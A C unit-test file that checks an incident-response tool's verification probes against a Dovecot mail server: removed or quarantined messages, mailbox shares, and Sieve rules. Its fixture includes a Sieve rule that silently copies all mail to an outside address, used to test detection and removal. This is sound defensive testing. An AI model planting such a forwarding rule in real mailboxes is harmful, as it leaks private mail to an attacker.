/* Probes that look at the server anew: messages gone or back, shares, rules and scripts. Each is
 * tried on a real Dovecot in both directions, with what must not pass. */
#include "bench_act.h"
#include "check.h"

#include "case/own_logins.h"
#include "commands.h"
#include "play_bench.h"
#include "playbook.h"
#include "roles.h"

#include <stdio.h>
#include <stdlib.h>
#include <string.h>

#define MAIL(subject)                                                                              \
    "From: a@mill.example\r\nTo: b@mill.example\r\nSubject: " subject "\r\n"                       \
    "Message-ID: <" subject                                                                        \
    "@mill.example>\r\nDate: Mon, 1 Jun 2026 10:00:00 +0000\r\n\r\n" subject "\r\n"

#define DROP "redirect :copy \"drop@outside.example\";\n"
#define GOOD "if header :is \"list-id\" \"a\" { fileinto \"Lists\"; }\n"

static const char script[] = "require [\"copy\", \"fileinto\"];\n" DROP GOOD;

#define STEP(id, check)                                                                            \
    "  - {id: " id ", phase: contain, title: T, do: D, after: [], verify: [" check "]}\n"

static const char book_text[] =
    "format: mailmedic-playbook/1\nid: small\ntitle: Small\nsummary: S\nversion: 1.0.0\n"
    "created: 2026-11-21T00:00:00.000Z\nmodified: 2026-11-21T00:00:00.000Z\nproviders: [generic]\n"
    "vars:\n  mailbox: {type: email}\n  bad: {type: msgid-list}\n  new_password: {type: secret}\n"
    "  nobodys: {type: secret}\n"
    "steps:\n" STEP("gone", "message.absent: {ids: \"{{bad}}\"}")
        STEP("gone-inbox", "message.absent: {ids: \"{{bad}}\", where: INBOX}")
            STEP("lost", "message.absent: {ids: \"{{bad}}\", coverage: preferred}")
                STEP("refused", "message.absent: {ids: \"{{bad}}\", cred: nobodys}")
                    STEP("back", "message.present: {ids: \"{{bad}}\"}")
                        STEP("shares", "acl.absent: {}")
                            STEP("none", "sieve.active: {sha256: none}")
                                STEP("rules", "rule.gone: {detector: \"rule-forwards-outside\"}");

struct room {
    struct bench bench;
    struct sample sample; /* only its case */
    struct engine *engine;
    struct invocation call;
    char words[6][400], *argv[6];
};

/* --- the case, between two commands --- */

static void play_close(struct room *play)
{
    uint64_t wrong = 9;
    struct error err = {0};

    if (!play->engine)
        return;
    assert_ok(sample_verify(play->sample.cf, &wrong, NULL, &err), &err);
    assert_int_equal(wrong, 0);
    engine_free(play->engine);
    play->engine = NULL;
    casefile_close(play->sample.cf);
}

static void play_open(struct room *play, const char *secret)
{
    static const struct detector_check detectors[] = {{"rule-forwards-outside", "rules-sieve"}};
    const struct dovecot *d = &play->bench.scene->dovecot;
    struct error err = {0};
    int count = 0;

    play_close(play);
    for (size_t i = 0; i < ARRAY_LEN(play->argv); i++)
        play->argv[i] = play->words[i];
    snprintf(play->words[count++], 400, "%s", play->bench.path);
    snprintf(play->words[count++], 400, "--server=imaps://%s@localhost:%u", play->bench.user,
             d->imaps);
    snprintf(play->words[count++], 400, "--server=sieve://%s@localhost:%u", play->bench.user,
             d->sieve);
    snprintf(play->words[count++], 400, "--ca-file=%s", d->ca_file);
    snprintf(play->words[count++], 400, "--secret-command=new_password=echo %s",
             secret ? secret : DOVECOT_PASSWORD);
    snprintf(play->words[count++], 400, "--secret-command=nobodys=echo wrong");
    play->call = (struct invocation){.command = commands};
    while (strcmp(play->call.command->name, "playbook") != 0)
        play->call.command++;
    assert_ok(call_parse(&play->call, count, play->argv, &err), &err);
    assert_ok(casefile_open(&play->sample.cf, play->bench.path, CASE_WRITE, &err), &err);
    play->engine = play_bench(&play->sample, book_text);
    play->engine->setup.probes = playbook_probes;
    play->engine->setup.secret = playbook_secret;
    play->engine->setup.self = &play->call;
    play->engine->setup.detectors = detectors;
    play->engine->setup.detector_count = ARRAY_LEN(detectors);
}

static void expect(struct room *play, const char *step, enum step_state want, char grade,
                   const char *class)
{
    const struct play_event *result;
    const struct step_view *view;
    struct play_view all;
    enum step_state is;
    struct error err = {0};

    play->engine->setup.now = 1; /* begun before whatever the case has seen */
    assert_ok(engine_begin(play->engine, step, "a test", &err), &err);
    play->engine->setup.now = 0;
    assert_ok(engine_verify(play->engine, step, &is, &err), &err);
    assert_ok(engine_look(play->engine, &all, &err), &err);
    view = play_view_step(&all, step);
    result = view->results[0];
    if (is != want || grade_letter(view->grade) != grade || strcmp(result->class, class) != 0)
        fail_msg("%s is %s, grade %c, %s: %s [%s]", step, step_state_name(is),
                 grade_letter(view->grade), result->class, result->value, result->raw);
}

static void say_bad(struct room *play, const char *ids)
{
    struct error err = {0};

    assert_ok(engine_answer(play->engine, "bad", ids, &err), &err);
}

static void deliver(struct room *play, const char *folder, const char *text)
{
    const struct dovecot_mail mail = {.user = play->bench.user, .folder = folder};
    struct error err = {0};

    assert_ok(dovecot_deliver(&play->bench.scene->dovecot, &mail, str_of(text), &err), &err);
}

static void act(struct room *play, const char *words)
{
    play_close(play);
    if (bench_act(&play->bench, play->bench.user, words) != 0)
        fail_msg("%s", buf_c(&play->bench.said));
}

static void begin(struct room *play, void **state, const char *text)
{
    int status;

    *play = (struct room){0};
    bench_open(&play->bench, scene_of(state), text);
    deliver(play, NULL, MAIL("lure"));
    deliver(play, NULL, MAIL("order"));
    deliver(play, "K&AUA-", MAIL("stays"));
    status = bench_acquire(&play->bench);
    if (status != 0 && status != 10 && status != 20)
        fail_msg("acquire: %s", buf_c(&play->bench.said));
}

static void end(struct room *play)
{
    play_close(play);
    bench_verify(&play->bench);
    bench_close(&play->bench);
}

/* --- messages --- */

static void a_message_is_gone_only_when_no_folder_has_it(void **state)
{
    static const char *const expunge[] = {"SELECT INBOX", "UID STORE 1 +FLAGS (\\Deleted)",
                                          "UID EXPUNGE 1", NULL};
    struct room play;

    begin(&play, state, NULL);
    play_open(&play, NULL);
    expect(&play, "gone", STEP_UNVERIFIED, '-', "no-ids");
    say_bad(&play, "<lure@mill.example>");
    expect(&play, "gone-inbox", STEP_UNVERIFIED, '-', "still-there");
    scene_meddle(play.bench.scene, play.bench.user, expunge, NULL);
    expect(&play, "gone", STEP_VERIFIED, 'A', "gone");
    play_open(&play, NULL); /* a copy elsewhere, under a name in UTF-7 */
    deliver(&play, "K&AUA-", MAIL("lure"));
    say_bad(&play, "lure@mill.example");
    expect(&play, "gone-inbox", STEP_VERIFIED, 'A', "gone");
    expect(&play, "gone", STEP_UNVERIFIED, '-', "still-there");
    end(&play);
}

static void a_message_that_was_never_seen_proves_little(void **state)
{
    struct room play;

    begin(&play, state, NULL);
    play_open(&play, NULL);
    say_bad(&play, "other@mill.example");
    expect(&play, "gone", STEP_VERIFIED, 'C', "gone");
    end(&play);
}

/* Nothing in the folder has a Message-ID: the search finds nothing, whatever is asked. */
static void a_search_without_its_control_proves_nothing(void **state)
{
    struct room play;

    begin(&play, state, NULL);
    deliver(&play, "Odd", "From: a@mill.example\r\nSubject: no id\r\n\r\nx\r\n");
    play_open(&play, NULL);
    say_bad(&play, "other@mill.example");
    expect(&play, "gone", STEP_UNVERIFIED, '-', "not-fully-seen");
    expect(&play, "lost", STEP_VERIFIED, 'C', "not-fully-seen");
    end(&play);
}

static void a_server_that_does_not_let_us_in_proves_nothing(void **state)
{
    struct own_login *rows;
    struct arena arena = {0};
    struct error err = {0};
    struct room play;
    size_t count;

    begin(&play, state, NULL);
    play_open(&play, NULL);
    say_bad(&play, "other@mill.example");
    expect(&play, "refused", STEP_UNVERIFIED, '-', "network");
    assert_ok(own_login_list(play.sample.cf, &arena, &rows, &count, &err), &err);
    assert_true(count > 0);
    assert_string_equal(rows[count - 1].purpose, "probe");
    assert_string_equal(rows[count - 1].class, "ambiguous");
    assert_string_equal(rows[count - 1].user, play.bench.user);
    arena_dispose(&arena);
    end(&play);
}

static int number_of(const struct room *play, const char *id)
{
    struct casefile *cf = NULL;
    struct arena arena = {0};
    struct message *rows;
    struct error err = {0};
    size_t count;
    int number;

    assert_ok(casefile_open(&cf, play->bench.path, CASE_READ, &err), &err);
    assert_ok(message_by_message_id(cf, &arena, id, &rows, &count, &err), &err);
    assert_int_equal(count, 1);
    number = (int)rows[0].id;
    arena_dispose(&arena);
    casefile_close(cf);
    return number;
}

static void what_we_put_aside_is_told_apart_and_comes_back(void **state)
{
    struct room play;
    char words[60];

    begin(&play, state, NULL);
    snprintf(words, sizeof(words), "quarantine %d", number_of(&play, "lure@mill.example"));
    act(&play, words);
    play_open(&play, NULL);
    say_bad(&play, "lure@mill.example");
    expect(&play, "gone", STEP_VERIFIED, 'B', "put-aside");
    expect(&play, "back", STEP_UNVERIFIED, '-', "not-there");
    act(&play, "undo 1");
    play_open(&play, NULL);
    say_bad(&play, "lure@mill.example");
    expect(&play, "gone", STEP_UNVERIFIED, '-', "still-there");
    expect(&play, "back", STEP_VERIFIED, 'A', "there");
    end(&play);
}

/* --- shares --- */

static void a_share_is_seen_on_the_server_not_in_the_case(void **state)
{
    static const char *const give[] = {"SETACL INBOX u11@mill.example lrs", NULL};
    struct room play;

    begin(&play, state, NULL);
    play_open(&play, NULL);
    expect(&play, "shares", STEP_VERIFIED, 'B', "not-shared");
    play_close(&play);
    scene_meddle(play.bench.scene, play.bench.user, give, NULL);
    play_open(&play, NULL); /* the case still believes that nothing is shared */
    expect(&play, "shares", STEP_UNVERIFIED, '-', "shared");
    play_close(&play);
    (void)bench_acquire(&play.bench);
    act(&play, "remove-share INBOX u11@mill.example");
    play_open(&play, NULL);
    expect(&play, "shares", STEP_VERIFIED, 'A', "not-shared");
    end(&play);
}

/* --- rules --- */

static void put_script(struct room *play, const char *name, bool active, const char *text)
{
    struct error err = {0};

    assert_ok(
        dovecot_script(&play->bench.scene->dovecot, play->bench.user, name, active, text, &err),
        &err);
}

static void a_rule_is_gone_when_the_server_has_the_judged_bytes(void **state)
{
    struct room play;
    char words[60];

    begin(&play, state, script);
    play_open(&play, NULL);
    expect(&play, "rules", STEP_UNVERIFIED, '-', "still-there");
    expect(&play, "none", STEP_UNVERIFIED, '-', "another-script");
    snprintf(words, sizeof(words), "remove-rule %d",
             (int)bench_rule(&play.bench, "drop@outside.example"));
    act(&play, words);
    play_open(&play, NULL);
    expect(&play, "rules", STEP_VERIFIED, 'A', "rule-gone");
    play_open(&play, NULL); /* the intruder is back, and nothing was acquired since */
    put_script(&play, "main", true, script);
    expect(&play, "rules", STEP_UNVERIFIED, '-', "changed");
    end(&play);
}

static void a_second_script_is_not_overlooked(void **state)
{
    struct room play;
    char words[60];

    begin(&play, state, script);
    snprintf(words, sizeof(words), "remove-rule %d",
             (int)bench_rule(&play.bench, "drop@outside.example"));
    act(&play, words);
    put_script(&play, "roundcube", false, "redirect \"drop@outside.example\";\n");
    play_open(&play, NULL);
    expect(&play, "rules", STEP_UNVERIFIED, '-', "not-judged");
    end(&play);
}

static void without_a_script_none_is_active(void **state)
{
    struct room play;

    begin(&play, state, script);
    act(&play, "deactivate-script");
    play_open(&play, NULL);
    expect(&play, "none", STEP_VERIFIED, 'A', "as-approved");
    play_open(&play, NULL);
    put_script(&play, "main", true, script);
    expect(&play, "none", STEP_UNVERIFIED, '-', "another-script");
    end(&play);
}

static int open_with_acl(void **state)
{
    return scene_open_with(state, "disable_plaintext_auth = no\nmail_plugins = acl\n"
                                  "protocol imap {\n  mail_plugins = acl imap_acl\n}\n"
                                  "plugin {\n  acl = vfile\n}\n");
}

int main(int argc, char **argv)
{
    const struct CMUnitTest tests[] = {
        cmocka_unit_test(a_message_is_gone_only_when_no_folder_has_it),
        cmocka_unit_test(a_message_that_was_never_seen_proves_little),
        cmocka_unit_test(a_search_without_its_control_proves_nothing),
        cmocka_unit_test(a_server_that_does_not_let_us_in_proves_nothing),
        cmocka_unit_test(what_we_put_aside_is_told_apart_and_comes_back),
        cmocka_unit_test(a_share_is_seen_on_the_server_not_in_the_case),
        cmocka_unit_test(a_rule_is_gone_when_the_server_has_the_judged_bytes),
        cmocka_unit_test(a_second_script_is_not_overlooked),
        cmocka_unit_test(without_a_script_none_is_active),
    };

    roles_dispatch(argc, argv);
    return cmocka_run_group_tests(tests, open_with_acl, scene_close);
}
